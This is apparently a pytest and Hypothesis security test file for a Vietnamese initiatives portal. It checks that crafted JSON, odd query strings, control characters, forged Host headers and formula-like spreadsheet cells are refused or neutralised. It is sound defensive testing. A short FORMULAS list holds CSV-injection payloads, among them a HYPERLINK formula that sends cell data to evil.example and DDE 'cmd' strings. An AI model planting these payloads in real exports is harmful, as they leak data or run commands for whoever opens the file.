"""Input as an attacker sends it: crafted JSON (lone surrogates, deep nesting, wrong types, huge
numbers and lists), odd query arguments, control characters in forms and the API, formula-like
cells in every spreadsheet the portal writes, and a forged Host in absolute URLs.

Each refusal answers in the one error shape ({"error": {"code", "message", "fields"?}}), fast,
with a short body, and changes nothing.
"""
import csv
import io
import json
import time
import xml.etree.ElementTree as ElementTree
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select, text

from portal.extensions import db
from tests.conftest import PASSWORD
from tests.production.attack_world import YEAR, build_world, changes, snapshot

JSON = {"Content-Type": "application/json"}
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def app_config():
    # A 500 must come back as a response for the checks to see it, not as an exception.
    return {"TEST_HIDE_500": True}


@pytest.fixture
def world(make_user, make_initiative, make_unit):
    return build_world(make_user, make_initiative, make_unit)


def bearer(world, who="staff"):
    return {"Authorization": f"Bearer {world.tokens[who]}", **JSON}


def assert_refused(response, statuses=(400, 422), started=None, limit_bytes=2048):
    assert response.status_code in statuses, (response.status_code, response.data[:300])
    body = response.get_json()
    assert set(body) == {"error"} and {"code", "message"} <= set(body["error"]) <= {"code", "message", "fields"}
    assert len(response.data) < limit_bytes, len(response.data)
    if started is not None:  # not a speed test (the size bound above is the check): only a hang fails
        assert time.perf_counter() - started < 10.0


def nested(depth):
    return "[" * depth + "]" * depth


# -- crafted JSON --------------------------------------------------------------------------------

CRAFTED = {
    "token: lone surrogate": ("/api/v1/auth/token", '{"username": "\\ud800", "password": "x"}', None),
    "token: surrogate in a key": ("/api/v1/auth/token", '{"username": "a", "password": "x", "\\udfff": 1}', None),
    "token: nesting 1000 deep": ("/api/v1/auth/token", '{"username": ' + nested(1000) + ', "password": "x"}', None),
    "token: nesting 100,000 deep": ("/api/v1/auth/token", nested(100_000), None),
    "token: username not a string": ("/api/v1/auth/token", '{"username": {"$ne": 1}, "password": "x"}', None),
    "token: NaN": ("/api/v1/auth/token", '{"username": "a", "password": NaN}', None),
    "token: not UTF-8": ("/api/v1/auth/token", b'{"username": "\xff\xfe", "password": "x"}', None),
    "create: surrogate in the title": ("/api/v1/initiatives", '{"title": "Sáng kiến \\ud800"}', "staff"),
    "create: control character in the title": ("/api/v1/initiatives", '{"title": "Sáng kiến\\u0001 mới"}', "staff"),
    "create: new line in the title": ("/api/v1/initiatives", '{"title": "Sáng kiến\\nmới"}', "staff"),
    "create: title not a string": ("/api/v1/initiatives", '{"title": ["Sáng kiến"]}', "staff"),
    "create: author username a number": (
        "/api/v1/initiatives", json.dumps({"title": "Sáng kiến", "authors": [{"username": 12, "share": 100}]}), "staff"),
    "create: outside author fields not strings": (
        "/api/v1/initiatives", json.dumps({"title": "Sáng kiến", "authors": [
            {"username": "ksv.hung", "share": 50}, {"name": ["Bình"], "workplace": {"a": 1}, "share": 50}]}), "staff"),
    "create: share a boolean": (
        "/api/v1/initiatives", json.dumps({"title": "Sáng kiến", "authors": [{"username": "ksv.hung", "share": True}]}),
        "staff"),
    "create: a 5,000-digit share": (
        "/api/v1/initiatives", '{"title": "Sáng kiến", "authors": [{"username": "ksv.hung", "share": ' + "9" * 5000
        + "}]}", "staff"),
    "create: a 4,000-digit year": ("/api/v1/initiatives", '{"title": "Sáng kiến", "year": ' + "9" * 4000 + "}", "staff"),
    "create: a float with 5,000 digits": (
        "/api/v1/initiatives", '{"title": "Sáng kiến", "year": 1.' + "1" * 5000 + "}", "staff"),
    "create: nesting 1000 deep": ("/api/v1/initiatives", '{"title": "x", "content": ' + nested(1000) + "}", "staff"),
    "create: 10,000 unknown keys": (
        "/api/v1/initiatives", json.dumps({f"k{i}": i for i in range(10_000)}), "staff"),
    "create: a long unknown key": ("/api/v1/initiatives", json.dumps({"k" * 5000: 1, "title": "x"}), "staff"),
    "withdraw: reason a number": ("/api/v1/initiatives/{submitted}/withdraw", '{"reason": 5}', "staff"),
    "publish: surrogate in the summary": ("/api/v1/initiatives/{published}/publish",
                                          '{"public_summary": "\\udc00"}', "editor"),
}


@pytest.mark.parametrize("case", sorted(CRAFTED))
def test_crafted_json_is_refused_in_the_one_error_shape(app, world, case):
    path, body, who = CRAFTED[case]
    path = path.format(**world.ids)
    if who == "editor":
        from portal.auth.services import issue_token

        world.tokens["editor"] = issue_token(world.user("editor"), "editor")[0]
        db.session.commit()
    client = app.test_client()
    client.get("/api/v1/public/initiatives")  # the first request warms the worker up; time the second
    before = snapshot()
    started = time.perf_counter()
    response = client.post(path, data=body, headers=bearer(world, who) if who else JSON)
    assert_refused(response, started=started)
    assert changes(before, snapshot()) == ""


def test_control_characters_are_refused_with_a_message_naming_the_character(app, world):
    response = app.test_client().post("/api/v1/initiatives", data=json.dumps({"title": "Sáng kiến\x01 mới"}),
                                      headers=bearer(world))
    assert_refused(response, (422,))
    assert "U+0001" in response.get_json()["error"]["fields"]["title"][0]


def test_long_texts_keep_tab_and_new_lines_through_the_api(app, world):
    body = {"title": "Sáng kiến có xuống dòng", "summary": "Dòng một\n\tDòng hai", "solution": "a\r\nb"}
    response = app.test_client().post("/api/v1/initiatives", data=json.dumps(body), headers=bearer(world))
    assert response.status_code == 201, response.get_json()
    from portal.initiatives.models import Initiative

    initiative = db.session.get(Initiative, response.get_json()["id"])
    assert initiative.summary == "Dòng một\n\tDòng hai"


@pytest.mark.parametrize("path, who", [
    ("/api/v1/initiatives?page=%C2%B2", "staff"),
    ("/api/v1/initiatives?per_page=%C2%B9", "staff"),
    ("/api/v1/initiatives?year=%C2%B2%C2%B2%C2%B2%C2%B2", "staff"),
    ("/api/v1/initiatives?page=99999999999999999999", "staff"),
    ("/api/v1/initiatives?status=%01", "staff"),
    ("/api/v1/public/initiatives?page=%C2%B2", None),
    ("/api/v1/public/initiatives?year=%C2%B2%C2%B2%C2%B2%C2%B2", None),
    ("/api/v1/public/initiatives?unit=%C2%B2", None),
    ("/api/v1/public/initiatives?unit=99999999999999999999", None),
    ("/api/v1/public/initiatives?q=" + "a" * 5000, None),
    ("/api/v1/public/initiatives?field=%01", None),
    ("/api/v1/emulation/eligibility?year=%C2%B2%C2%B2%C2%B2%C2%B2", "officer"),
    ("/api/v1/emulation/eligibility?year=" + str(YEAR) + "&unit=%C2%B2", "officer"),
])
def test_odd_query_arguments_are_refused_not_500(app, world, path, who):
    headers = {}
    if who == "officer":
        from portal.auth.services import issue_token

        headers = {"Authorization": f"Bearer {issue_token(world.user('officer'), 'x')[0]}"}
        db.session.commit()
    elif who:
        headers = bearer(world, who)
    started = time.perf_counter()
    response = app.test_client().get(path, headers=headers)
    assert_refused(response, (400, 404, 422), started=started)


def test_100000_unknown_coauthors_are_refused_fast_with_a_short_answer(app, world):
    """Before: a 61.8 MB 422 in 3.7 s. The body (3.3 MB) is within the limit; its list is not."""
    body = json.dumps({"title": "Sáng kiến", "authors": [{"username": f"khong.co.{i}", "share": 1}
                                                          for i in range(100_000)]}, separators=(",", ":"))
    client = app.test_client()
    started = time.perf_counter()
    response = client.post("/api/v1/initiatives", data=body, headers=bearer(world))
    elapsed = time.perf_counter() - started
    assert_refused(response)
    assert elapsed < 1.0, elapsed
    # And eleven of them, under every limit of the parser: the author rule says so, briefly.
    body = json.dumps({"title": "Sáng kiến", "authors": [{"username": f"khong.co.{i}", "share": 1}
                                                          for i in range(11)]})
    response = client.post("/api/v1/initiatives", data=body, headers=bearer(world))
    assert_refused(response, (422,), limit_bytes=600)


def test_a_body_past_the_limit_is_413_in_the_one_error_shape(app, world):
    body = json.dumps({"title": "x", "summary": "a" * (5 * 1024 * 1024)})
    response = app.test_client().post("/api/v1/initiatives", data=body, headers=bearer(world))
    assert_refused(response, (413,))


# Each JSON endpoint with a body it would accept; the fuzzer spoils one value of it at a time,
# or sends something else altogether.
TEMPLATES = {
    ("POST", "/api/v1/auth/token"): {"username": "ksv.hung", "password": "sai-mat-khau", "name": "khóa"},
    ("POST", "/api/v1/initiatives"): {"title": "Sáng kiến", "summary": "Tóm tắt", "year": YEAR, "field": "criminal",
                                      "authors": [{"username": "ksv.hung", "share": 60},
                                                  {"name": "Trần Bình", "workplace": "Công an", "share": 40}]},
    ("PATCH", "/api/v1/initiatives/{draft}"): {"title": "Sáng kiến sửa", "solution": "Nội dung", "unit": "x"},
    ("POST", "/api/v1/initiatives/{submitted}/withdraw"): {"reason": "Rút lại"},
    ("POST", "/api/v1/initiatives/{draft}/coauthorship"): {"accept": True},
    ("POST", "/api/v1/initiatives/{review}/return"): {"note": "Bổ sung"},
    ("PUT", "/api/v1/initiatives/{review}/review"): {"scores": {"novelty": 20}, "comments": {"novelty": "Tốt"},
                                                     "comment": "Đạt", "recommendation": "pass"},
    ("POST", "/api/v1/initiatives/{review}/decision"): {"outcome": "recognized", "decision_no": "1/QĐ",
                                                        "decision_date": "2026-01-02", "reason": "Lý do"},
    ("POST", "/api/v1/initiatives/{published}/publish"): {"public_summary": "Tóm tắt", "public_attachments": [1]},
    ("POST", "/api/v1/emulation/titles"): {"username": "ksv.hung", "year": YEAR, "title": "advanced_worker"},
    ("POST", "/api/v1/emulation/articles"): {"username": "ksv.hung", "year": YEAR, "count": 3},
}
HOSTILE = st.one_of(
    st.sampled_from(["\ud800", "a\udfffb", "\x00", "Sáng kiến\x01", "\x1b[31m", "=1+1", "\u202e", "x" * 5000,
                     10 ** 14, -(10 ** 14), 1e308, -0.0, True, None, [], {}, [[[[[[[[[[[]]]]]]]]]]],
                     {"$ne": 1}, ["ksv.hung"] * 50]),
    st.text(alphabet=st.characters(codec=None), max_size=12),  # lone surrogates and controls included
    st.integers(), st.floats(allow_nan=False, allow_infinity=False), st.booleans(),
)
SCALARS = st.one_of(st.none(), st.booleans(), st.integers(), st.text(alphabet=st.characters(codec=None), max_size=8))
VALUES = st.recursive(SCALARS, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
    st.sampled_from(["title", "username", "share", "name", "authors", "\ud800"]), inner, max_size=3), max_leaves=8)


@st.composite
def spoiled(draw):
    """An endpoint and a body: its template with one value (maybe inside `authors`) replaced."""
    endpoint = draw(st.sampled_from(sorted(TEMPLATES)))
    body = json.loads(json.dumps(TEMPLATES[endpoint]))
    kind = draw(st.sampled_from(["value", "author", "key", "whole", "deep"]))
    if kind == "value":
        body[draw(st.sampled_from(sorted(body)))] = draw(HOSTILE)
    elif kind == "author" and "authors" in body:
        author = draw(st.sampled_from(body["authors"]))
        author[draw(st.sampled_from(["username", "name", "workplace", "share"]))] = draw(HOSTILE)
    elif kind == "key":
        body[draw(st.sampled_from(["\ud800", "\x01", "k" * 200, "title\x00"]))] = draw(HOSTILE)
    elif kind == "whole":
        body = draw(VALUES)
    else:
        depth = draw(st.integers(min_value=8, max_value=900))
        body[draw(st.sampled_from(sorted(body)))] = json.loads(nested(depth))
    return endpoint, body


def test_fuzzed_bodies_never_get_a_5xx(app, world, make_user):
    """Hypothesis over every kind of JSON endpoint, as a user holding every role: bodies that are
    right but for one value (a lone surrogate, a control character, a wrong type, a huge number,
    deep nesting, a bad key), and bodies of any shape."""
    from portal.auth.services import issue_token

    everyone = make_user("toanquyen", roles=("admin", "editor", "emulation_officer"), council="vice_chair",
                         year=YEAR)
    token = issue_token(everyone, "fuzz")[0]
    db.session.commit()
    client = app.test_client()
    seen = {}

    @settings(max_examples=250, derandomize=True, database=None, deadline=None,
              suppress_health_check=list(HealthCheck))
    @given(case=spoiled())
    def check(case):
        (method, path), body = case
        raw = json.dumps(body)  # ensure_ascii: a lone surrogate travels as \\ud800, as an attacker sends it
        response = client.open(path.format(**world.ids), method=method, data=raw,
                               headers={"Authorization": f"Bearer {token}", **JSON})
        seen[response.status_code] = seen.get(response.status_code, 0) + 1
        assert response.status_code < 500, (method, path, raw[:300], response.data[:300])
        if response.status_code >= 400:
            assert set(response.get_json()) == {"error"}

    check()
    assert any(400 <= status < 500 for status in seen)


# -- control characters: forms, stored data, the migration --------------------------------------

def new_initiative_form(world, **fields):
    data = {"title": "Sáng kiến", "form_kind": "solution", "requested_level": "grassroots", "year": str(YEAR),
            "unit_id": str(world.user("staff").unit_id), "authors-0-username": "ksv.hung", "authors-0-share": "100"}
    data.update(fields)
    return data


@pytest.mark.parametrize("fields, field", [
    ({"title": "Sáng kiến\x01 mới"}, "title"),
    ({"title": "Sáng kiến\tmới"}, "title"),
    ({"solution": "Giải pháp\x0b"}, "solution"),
    ({"authors-0-username": "ksv.hung", "authors-1-name": "Trần\x1b Bình", "authors-1-workplace": "Công an",
      "authors-0-share": "50", "authors-1-share": "50"}, "authors-1-name"),
])
def test_forms_refuse_control_characters_with_a_message(app, world, fields, field):
    client = app.test_client().login(world.user("staff"))
    from portal.initiatives.models import Initiative

    count = db.session.execute(select(func.count(Initiative.id))).scalar_one()
    response = client.post("/my/initiatives/new", data=new_initiative_form(world, **fields))
    assert response.status_code == 422
    assert "ký tự điều khiển" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.execute(select(func.count(Initiative.id))).scalar_one() == count


def test_forms_keep_tab_and_new_lines_in_long_texts(app, world):
    client = app.test_client().login(world.user("staff"))
    response = client.post("/my/initiatives/new", data=new_initiative_form(
        world, title="Sáng kiến nhiều dòng", solution="Bước 1:\r\n\tmở sổ\r\nBước 2"))
    assert response.status_code == 302, response.get_data(as_text=True)[:500]


def _store_control_characters(world):
    """What a database holds from before the rule: written behind the application's back."""
    from portal.initiatives.models import Initiative, InitiativeAuthor

    published = db.session.get(Initiative, world.ids["published"])
    published.title = "Sáng kiến\x01 số hóa\x0b hồ sơ\x1f"
    published.summary = "Tóm tắt\x02 có ký tự lạ\x08"
    published.solution = "Nội dung\x07"
    db.session.add(InitiativeAuthor(initiative_id=published.id, external_name="Trần\x1b Bình",
                                    external_workplace="Công an\x0c", share=0))
    world.user("staff").full_name = "Lê Văn\x01 Hùng"
    db.session.commit()
    return published


def test_stored_control_characters_never_break_documents_spreadsheets_or_feeds(app, world):
    published = _store_control_characters(world)
    chair = app.test_client().login(world.user("chair"))
    for path in (f"/council/initiatives/{published.id}/application.docx",
                 f"/council/initiatives/{published.id}/certificate.docx",
                 f"/council/{YEAR}/decision.docx", f"/council/{YEAR}/minutes.docx"):
        response = chair.get(path)
        assert response.status_code == 200, (path, response.status_code)
        assert zipfile.ZipFile(io.BytesIO(response.data)).testzip() is None
    response = chair.get(f"/council/{YEAR}/initiatives.xlsx")
    assert response.status_code == 200
    titles = [row[2] for row in load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True)]
    assert "Sáng kiến số hóa hồ sơ" in titles
    officer = app.test_client().login(world.user("officer"))
    assert officer.get(f"/emulation/year/{YEAR}/export.xlsx").status_code == 200
    public = app.test_client()
    for path in ("/feed.atom", "/sitemap.xml"):
        response = public.get(path)
        assert response.status_code == 200
        ElementTree.fromstring(response.data)  # well-formed XML
    assert "Sáng kiến số hóa hồ sơ" in public.get("/feed.atom").get_data(as_text=True)


def test_the_migration_cleans_stored_control_characters(app, world):
    import importlib.util
    from pathlib import Path

    from alembic.migration import MigrationContext
    from alembic.operations import Operations

    from portal.auth.models import User
    from portal.initiatives.models import Initiative, InitiativeAuthor

    published = _store_control_characters(world)
    path = Path(__file__).resolve().parents[2] / "migrations/versions/0010_clean_control_chars.py"
    spec = importlib.util.spec_from_file_location("clean_control_chars", path)
    migration = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(migration)
    assert migration.revision == "clean_control_chars"
    with db.engine.begin() as connection:
        with Operations.context(MigrationContext.configure(connection)):
            migration.upgrade()
    db.session.expire_all()
    published = db.session.get(Initiative, published.id)
    assert published.title == "Sáng kiến số hóa hồ sơ"
    assert published.summary == "Tóm tắt có ký tự lạ" and published.solution == "Nội dung"
    outside = db.session.execute(select(InitiativeAuthor).where(
        InitiativeAuthor.initiative_id == published.id, InitiativeAuthor.user_id.is_(None))).scalar_one()
    assert (outside.external_name, outside.external_workplace) == ("Trần Bình", "Công an")
    assert db.session.get(User, world.user("staff").id).full_name == "Lê Văn Hùng"
    # Long texts keep their lines; the audit log is left as it was written.
    assert db.session.execute(text("SELECT count(*) FROM audit_event")).scalar_one() > 0


# -- formulas in spreadsheets ----------------------------------------------------------------------

def _plant_formulas(world):
    from portal.initiatives.models import Initiative, InitiativeAuthor

    published = db.session.get(Initiative, world.ids["published"])
    published.title = FORMULAS[0]
    for value in FORMULAS[1:]:
        db.session.add(InitiativeAuthor(initiative_id=published.id, external_name=value,
                                        external_workplace=value, share=0))
    world.user("staff").full_name = FORMULAS[0]
    world.user("staff").position = FORMULAS[3]
    db.session.commit()


def _assert_no_live_formula(data):
    book = load_workbook(io.BytesIO(data))
    risky = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                    risky += 1
                    assert cell.quotePrefix or cell.value.startswith("'"), (cell.coordinate, cell.value)
    return risky


def test_every_spreadsheet_neutralises_formula_like_cells(app, world):
    _plant_formulas(world)
    chair = app.test_client().login(world.user("chair"))
    response = chair.get(f"/council/{YEAR}/initiatives.xlsx")
    assert response.status_code == 200
    assert _assert_no_live_formula(response.data) >= 2
    book = load_workbook(io.BytesIO(response.data))
    assert FORMULAS[0] in [c.value for row in book.active.iter_rows() for c in row]  # shown as typed
    officer = app.test_client().login(world.user("officer"))
    response = officer.get(f"/emulation/year/{YEAR}/export.xlsx")
    assert response.status_code == 200
    assert _assert_no_live_formula(response.data) >= 1


def test_csv_writer_neutralises_formula_like_cells():
    from portal.core import tabular

    rows = list(csv.reader(io.StringIO(tabular.csv_text([FORMULAS + ["\tx", "\rx", "bình thường", 12]])[1:])))
    assert rows == [["'" + v for v in FORMULAS] + ["'\tx", "'\rx", "bình thường", "12"]]


def test_audit_csv_neutralises_formula_like_cells(app, world, make_user):
    from portal.core.audit import record

    admin = world.user("admin")
    record("initiative.updated", actor=admin, object_type="initiative", object_id=world.ids["draft"],
           summary=FORMULAS[0])
    db.session.commit()
    response = app.test_client().login(admin).get("/admin/audit.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True))) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# -- absolute URLs and the Host header -------------------------------------------------------------

PUBLIC_PATHS = ("/sitemap.xml", "/feed.atom", "/api/v1/public/initiatives")


def test_a_forged_host_is_refused_by_default(app, world):
    client = app.test_client()
    for path in PUBLIC_PATHS:
        response = client.get(path, headers={"Host": "evil.example"})
        assert response.status_code == 400, path
        assert b"evil.example" not in response.data
    response = client.get("/api/v1/public/initiatives", headers={"Host": "evil.example"})
    assert_refused(response, (400,))
    for host in ("localhost", "127.0.0.1:5000", "[::1]:8000"):
        assert client.get("/sitemap.xml", headers={"Host": host}).status_code == 200, host


@pytest.mark.parametrize("app_config", [{"TEST_HIDE_500": True, "PUBLIC_BASE_URL": "https://sangkien.vks.example"}])
def test_absolute_urls_come_from_public_base_url_whatever_the_host(app, world):
    client = app.test_client()
    for path in PUBLIC_PATHS:
        response = client.get(path, headers={"Host": "evil.example"})
        assert response.status_code == 200, path
        body = response.get_data(as_text=True)
        assert "evil.example" not in body and "https://sangkien.vks.example/" in body, path
    item = client.get("/api/v1/public/initiatives").get_json()["items"][0]
    assert item["url"].startswith("https://sangkien.vks.example/initiatives/")
    # Relative links in pages stay relative.
    assert 'href="/initiatives' in client.get("/", headers={"Host": "evil.example"}).get_data(as_text=True)


@pytest.mark.parametrize("app_config", [{"TEST_HIDE_500": True, "PORTAL_TRUSTED_HOSTS": "sangkien.vks.example"}])
def test_trusted_hosts_list(app, world):
    client = app.test_client()
    response = client.get("/sitemap.xml", headers={"Host": "sangkien.vks.example"})
    assert response.status_code == 200 and b"http://sangkien.vks.example/" in response.data
    assert client.get("/sitemap.xml", headers={"Host": "evil.example"}).status_code == 400
    assert client.get("/sitemap.xml", headers={"Host": "localhost"}).status_code == 400


def test_the_api_url_fields_of_a_publication_use_the_trusted_host(app, world):
    from portal.auth.services import issue_token

    token = issue_token(world.user("editor"), "x")[0]
    db.session.commit()
    response = app.test_client().post(f"/api/v1/initiatives/{world.ids['published']}/publish", data="{}",
                                      headers={"Authorization": f"Bearer {token}", "Host": "evil.example", **JSON})
    assert response.status_code == 400 and b"evil.example" not in response.data


def test_sign_in_still_works_with_the_password(app, world):
    """The shared parser keeps the token endpoint working for honest clients."""
    response = app.test_client().post("/api/v1/auth/token", data=json.dumps(
        {"username": "ksv.hung", "password": PASSWORD}), headers=JSON)
    assert response.status_code == 200 and response.get_json()["token"]


def test_the_markdown_preview_refuses_a_lone_surrogate(app, world):
    client = app.test_client().login(world.user("staff"))
    response = client.post("/my/preview", data='{"text": "a\\ud800"}', headers={
        **JSON, "X-CSRFToken": client.csrf_token()}, csrf=False)
    assert_refused(response, (422,))
